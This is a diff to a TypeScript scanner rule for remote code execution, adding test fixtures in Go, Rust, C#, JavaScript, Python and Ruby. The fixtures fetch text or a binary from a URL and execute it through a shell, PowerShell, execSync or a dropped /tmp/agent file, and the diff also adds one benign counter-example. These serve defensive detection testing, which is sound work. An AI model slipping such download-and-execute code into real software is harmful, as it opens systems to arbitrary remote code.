@@ -178,6 +178,24 @@ export const s001RemoteCodeExecution: ScanRule = {
         text: 'res, _ := http.Get(url)\nf, _ := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY, 0o755)\nio.Copy(f, res.Body)\nexec.Command(dst, "--serve").Start()\n',
       },
       {
+        path: 'cmd/fetch/main.go',
+        text: 'r, _ := http.Get(u)\nf, _ := os.Create("/tmp/agent")\nio.Copy(f, r.Body)\nos.Chmod("/tmp/agent", 0o755)\nexec.Command("/tmp/agent").Run()\n',
+        level: 'HIGH',
+      },
+      {
+        path: 'src/main.rs',
+        text: 'let s = reqwest::blocking::get(u)?.text()?;\nstd::process::Command::new("sh").arg("-c").arg(&s).status()?;\n',
+        level: 'HIGH',
+      },
+      {
+        path: 'Boot.cs',
+        text: 'var s = await new HttpClient().GetStringAsync(u);\nProcess.Start("powershell", "-Command " + s);\n',
+        level: 'HIGH',
+      },
+      { path: 'scripts/boot.mjs', text: 'const r = await fetch(u);\nexecSync(await r.text());\n', level: 'HIGH' },
+      { path: 'scripts/boot.py', text: 'import requests, subprocess\nsubprocess.run(requests.get(u).text, shell=True)\n', level: 'HIGH' },
+      { path: 'scripts/boot.rb', text: 'require "net/http"\nbody = Net::HTTP.get(URI(u))\nsystem(body)\n', level: 'HIGH' },
+      {
         path: 'scripts/preset.mjs',
         text: 'const src = await (await fetch(url)).text();\nawait import("data:text/javascript;base64," + Buffer.from(src).toString("base64"));\n',
       },
@@ -252,6 +270,10 @@ export const s001RemoteCodeExecution: ScanRule = {
       },
     ],
     noMatch: [
+      {
+        path: 'scripts/tag.py',
+        text: 'import requests, subprocess\nlatest = requests.get(API).json()["tag_name"]\nsubprocess.run(["git", "tag", latest])\n',
+      },
       'deno run --allow-net=api.example.com https://deno.land/std@0.224.0/http/file_server.ts',
       {
         path: 'SKILL.md',
